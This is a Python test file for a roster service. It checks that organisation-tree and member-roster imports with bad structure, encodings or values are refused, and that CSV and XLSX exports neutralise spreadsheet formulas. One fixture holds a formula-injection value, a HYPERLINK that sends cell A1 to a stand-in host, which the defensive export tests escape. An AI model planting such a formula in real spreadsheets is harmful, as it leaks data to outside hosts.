"""Issue 11, items 7–9: impossible organisation trees, bad roster files and unsafe exports are refused with
row-level errors and nothing imported, on SQLite and PostgreSQL; the export neutralises formulas and round-trips."""

from __future__ import annotations

import zipfile
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from bot.db import Database
from bot.errors import InvalidInput
from bot.i18n import translator
from bot.services.roster import export_roster, import_organisations, import_roster, org_tree
from bot.services.tabular import ImportRejected
from storage.models import Member, Organisation

EXAMPLES = Path(__file__).resolve().parent.parent / "examples"
HEADER = "member_no,name,branch,group,role,delegated,join_date,probationary,full_member_date,phone,community\n"

TZ = ZoneInfo("Asia/Shanghai")  # the zone "not in the future" is checked in


async def _load_examples(db: Database) -> None:
    async with db.session() as session:
        await import_organisations(session, EXAMPLES / "organisations.csv")
        await import_roster(session, EXAMPLES / "roster.csv", tz=TZ)


async def _snapshot(db: Database) -> list[tuple[object, ...]]:
    async with db.session() as session:
        orgs = (await session.execute(select(Organisation.code, Organisation.kind, Organisation.parent_id))).all()
        members = (await session.execute(select(Member.member_no, Member.name, Member.org_id, Member.role))).all()
    return sorted(map(tuple, orgs)) + sorted(map(tuple, members))  # type: ignore[arg-type]


async def _rejected(db: Database, path: Path, *, orgs: bool = False) -> tuple[list[str], list[str]]:
    """The zh_CN and en lines of a rejected import, after checking it changed nothing."""
    before = await _snapshot(db)
    with pytest.raises(ImportRejected) as info:
        async with db.session() as session:
            if orgs:
                await import_organisations(session, path)
            else:
                await import_roster(session, path, tz=TZ)
    assert await _snapshot(db) == before
    errors = info.value.errors
    return [e.localized(translator("zh_CN")) for e in errors], [e.localized(translator("en")) for e in errors]


# --- item 7: the organisation tree ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("rows", "expected_en"),
    [
        # The working committee made a child of its own unit: a loop, and a root with a parent.
        ("WC,工委,working_committee,MZJ,\n", "Row 2: WC would be its own ancestor (the parents form a loop)"),
        # A branch under a Party group.
        (
            "X1,新支部,branch,MZJ-B1-G1,\n",
            "Row 2: X1 (branch) cannot be under MZJ-B1-G1 (party_group); allowed: general_branch, unit_committee",
        ),
        # A branch holding members turned into a Party group.
        (
            "MZJ-B2,市民政局第二党支部,party_group,MZJ-B1,\n",
            "Row 2: MZJ-B2 has members on the roster, so it cannot become a party_group",
        ),
        # A second root.
        (
            "WC2,另一个工委,working_committee,,\n",
            "Row 2: WC2 would be a second top of the tree; there is one working committee (WC)",
        ),
        # A unit with no parent.
        (
            "U9,某局机关党委,unit_committee,,\n",
            "Row 2: U9 (unit_committee) needs a parent: only the working committee is at the top",
        ),
    ],
)
async def test_impossible_trees_are_refused(any_db: Database, tmp_path: Path, rows: str, expected_en: str) -> None:
    await _load_examples(any_db)
    path = tmp_path / "orgs.csv"
    path.write_text("code,name,kind,parent,theme_day\n" + rows, encoding="utf-8")
    zh, en = await _rejected(any_db, path, orgs=True)
    assert expected_en in en, en
    assert all(line.startswith("第2行：") for line in zh)
    async with any_db.session() as session:
        assert next(n["code"] for n in await org_tree(session)) == "WC"  # the tree still shows, from its root


async def test_a_stored_child_left_under_a_wrong_kind_is_reported_on_the_parents_row(
    db: Database, tmp_path: Path
) -> None:
    await _load_examples(db)
    # MZJ-B1 has a Party group (MZJ-B1-G1) and members; turning it into a general branch breaks both.
    path = tmp_path / "orgs.csv"
    path.write_text("code,name,kind,parent\nMZJ-B1,一支部,general_branch,MZJ\n", encoding="utf-8")
    zh, en = await _rejected(db, path, orgs=True)
    assert "Row 2: MZJ-B1-G1 (party_group) cannot be under MZJ-B1 (general_branch); allowed: branch" in en
    assert any("第2行：MZJ-B1-G1（party_group）不能隶属于MZJ-B1（general_branch）" in line for line in zh), zh


async def test_a_whole_valid_tree_with_general_branch_imports(db: Database, tmp_path: Path) -> None:
    path = tmp_path / "orgs.csv"
    path.write_text(
        "code,name,kind,parent\n"
        "G1-B,总支下支部,branch,G1\n"  # children before parents are fine
        "G1,某局党总支,general_branch,U1\n"
        "U1,某局机关党委,unit_committee,WC\n"
        "WC,工委,working_committee,\n"
        "G1-B-P,小组,party_group,G1-B\n",
        encoding="utf-8",
    )
    async with db.session() as session:
        result = await import_organisations(session, path)
    assert result.created == 5


# --- item 8: bad roster files ------------------------------------------------------------------------------------


async def test_cr_only_line_ends_import(any_db: Database, tmp_path: Path) -> None:
    await _load_examples(any_db)
    path = tmp_path / "mac.csv"
    path.write_bytes((HEADER + "C1,马丽,MZJ-B1,,,,,,,,\n").replace("\n", "\r").encode("utf-8"))
    async with any_db.session() as session:
        result = await import_roster(session, path, tz=TZ)
    assert result.created == 1


async def test_a_file_named_xlsx_that_is_not_a_workbook_is_refused(db: Database, tmp_path: Path) -> None:
    await _load_examples(db)
    path = tmp_path / "roster.xlsx"
    path.write_text(HEADER, encoding="utf-8")
    broken = tmp_path / "broken.xlsx"
    with zipfile.ZipFile(broken, "w") as archive:
        archive.writestr("[Content_Types].xml", "<not-xml")
    for candidate in (path, broken):
        with pytest.raises(InvalidInput) as info:
            async with db.session() as session:
                await import_roster(session, candidate, tz=TZ)
        assert info.value.localized(translator("zh_CN")) == "文件不是可读取的 Excel 工作簿。"


@pytest.mark.parametrize(
    ("row", "zh", "en"),
    [
        (
            "L1," + "长" * 101 + ",MZJ-B1,,,,,,,,\n",
            "第2行：name过长：101个字符，最多100个",
            "Row 2: name is too long: 101 characters, at most 100",
        ),
        (
            "L2,张\x00三,MZJ-B1,,,,,,,,\n",
            "第2行：name列含有控制字符（如 NUL 字节或换行）",
            "Row 2: column name holds a control character (a NUL byte or a line break)",
        ),
        (
            "mz101,王芳,MZJ-B1,,,,,,,,\n",
            "第2行：编号（member_no）mz101与名册中的MZ101仅大小写不同，请按名册中的写法填写",
            "Row 2: member_no mz101 differs from MZ101 on the roster only in letter case; write it as stored",
        ),
        (
            "F1,范冰,MZJ-B1,,,,2015-06-01,,2014-06-01,,\n",
            "第2行：转正日期（full_member_date）2014-06-01早于入党日期（join_date）2015-06-01",
            "Row 2: full_member_date 2014-06-01 is before join_date 2015-06-01",
        ),
        (
            "D1,邓超,MZJ-B1,,member,yes,,,,,\n",
            "第2行：delegated只适用于支部委员，不适用于member",
            "Row 2: delegated applies only to a committee member, not to member",
        ),
    ],
)
async def test_bad_rows_are_refused_on_both_backends(
    any_db: Database, tmp_path: Path, row: str, zh: str, en: str
) -> None:
    await _load_examples(any_db)
    path = tmp_path / "bad.csv"
    path.write_text(HEADER + row, encoding="utf-8")
    zh_lines, en_lines = await _rejected(any_db, path)
    assert zh in zh_lines, zh_lines
    assert en in en_lines, en_lines


async def test_member_numbers_differing_by_case_or_space_in_one_file(any_db: Database, tmp_path: Path) -> None:
    await _load_examples(any_db)
    path = tmp_path / "twice.csv"
    path.write_text(HEADER + "N7,甲,MZJ-B1,,,,,,,,\nn7 ,乙,MZJ-B1,,,,,,,,\n", encoding="utf-8")
    zh, _ = await _rejected(any_db, path)
    assert "第3行：党员n7重复出现（另见第2行）" in zh


async def test_a_duplicated_column_is_refused(db: Database, tmp_path: Path) -> None:
    await _load_examples(db)
    path = tmp_path / "cols.csv"
    path.write_text("member_no,name,branch,name\nK1,甲,MZJ-B1,乙\n", encoding="utf-8")
    zh, en = await _rejected(db, path)
    assert zh == ["第1行：name列出现了不止一次"]
    assert en == ["Row 1: column name appears more than once"]


async def test_big5_is_refused_and_gbk_with_rare_characters_is_read(db: Database, tmp_path: Path) -> None:
    await _load_examples(db)
    big5 = tmp_path / "big5.csv"
    big5.write_bytes((HEADER + "T1,王小明,MZJ-B1,,,,,,,,\nT2,陳大文,MZJ-B1,,,,,,,,\n").encode("big5"))
    with pytest.raises(InvalidInput) as info:
        async with db.session() as session:
            await import_roster(session, big5, tz=TZ)
    assert "Big5" in info.value.localized(translator("zh_CN")) and "CSV UTF-8" in info.value.localized(translator("en"))
    gbk = tmp_path / "gbk.csv"
    gbk.write_bytes((HEADER + "T3,张喆,MZJ-B1,,,,,,,,\nT4,李堃,MZJ-B1,,,,,,,,\n").encode("gbk"))
    async with db.session() as session:
        assert (await import_roster(session, gbk, tz=TZ)).created == 2
    async with db.session() as session:
        names = set((await session.scalars(select(Member.name).where(Member.member_no.in_(["T3", "T4"])))).all())
    assert names == {"张喆", "李堃"}


# --- item 9: export ------------------------------------------------------------------------------------------------

HOSTILE = '=HYPERLINK("http://x.example/?"&A1,"点我")'


async def _hostile_roster(db: Database, tmp_path: Path) -> None:
    await _load_examples(db)
    path = tmp_path / "hostile.csv"
    path.write_text(
        "member_no,name,branch,community,phone\n"
        f'H1,"{HOSTILE.replace(chr(34), chr(34) * 2)}",MZJ-B1,@SUM(1+1),+86 138 0013 8000\n'
        "H2,-减号,MZJ-B1,+加号,\n",
        encoding="utf-8",
    )
    async with db.session() as session:
        assert (await import_roster(session, path, tz=TZ)).created == 2


async def test_csv_export_neutralises_formulas_and_imports_back_unchanged(any_db: Database, tmp_path: Path) -> None:
    await _hostile_roster(any_db, tmp_path)
    out = tmp_path / "export.csv"
    async with any_db.session() as session:
        await export_roster(session, out)
    text = out.read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in text and "'@SUM(1+1)" in text and "'-减号" in text and "'+86 138" in text
    for line in text.splitlines()[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in line.split(","))
    before = await _snapshot(any_db)
    async with any_db.session() as session:
        result = await import_roster(session, out, tz=TZ)  # the id column included
    assert (result.created, result.updated) == (0, 0) and result.unchanged == 10
    assert await _snapshot(any_db) == before
    async with any_db.session() as session:
        h1 = await session.scalar(select(Member).where(Member.member_no == "H1"))
        assert h1 is not None and h1.name == HOSTILE and h1.community == "@SUM(1+1)"


async def test_xlsx_export_holds_text_cells_and_imports_back(db: Database, tmp_path: Path) -> None:
    await _hostile_roster(db, tmp_path)
    out = tmp_path / "export.xlsx"
    async with db.session() as session:
        await export_roster(session, out)
    with zipfile.ZipFile(out) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml  # no formula anywhere
    workbook = load_workbook(out)
    sheet = workbook.active
    assert sheet is not None
    cell = next(c for row in sheet.iter_rows() for c in row if c.value == HOSTILE)
    assert cell.data_type == "s" and cell.quotePrefix
    async with db.session() as session:
        result = await import_roster(session, out, tz=TZ)
    assert (result.created, result.updated, result.unchanged) == (0, 0, 10)


async def test_an_edited_member_number_under_an_exported_id_is_refused(db: Database, tmp_path: Path) -> None:
    await _load_examples(db)
    out = tmp_path / "export.csv"
    async with db.session() as session:
        rows = await export_roster(session, out)
    first = rows[0]
    other = rows[1]
    path = tmp_path / "edited.csv"
    path.write_text(
        f"id,member_no,name,branch\n{first['id']},{other['member_no']},某人,{other['branch']}\n", encoding="utf-8"
    )
    _, en = await _rejected(db, path)
    assert en == [
        f"Row 2: id {first['id']} does not match member {other['member_no']}; member numbers cannot be changed by an import"
    ]
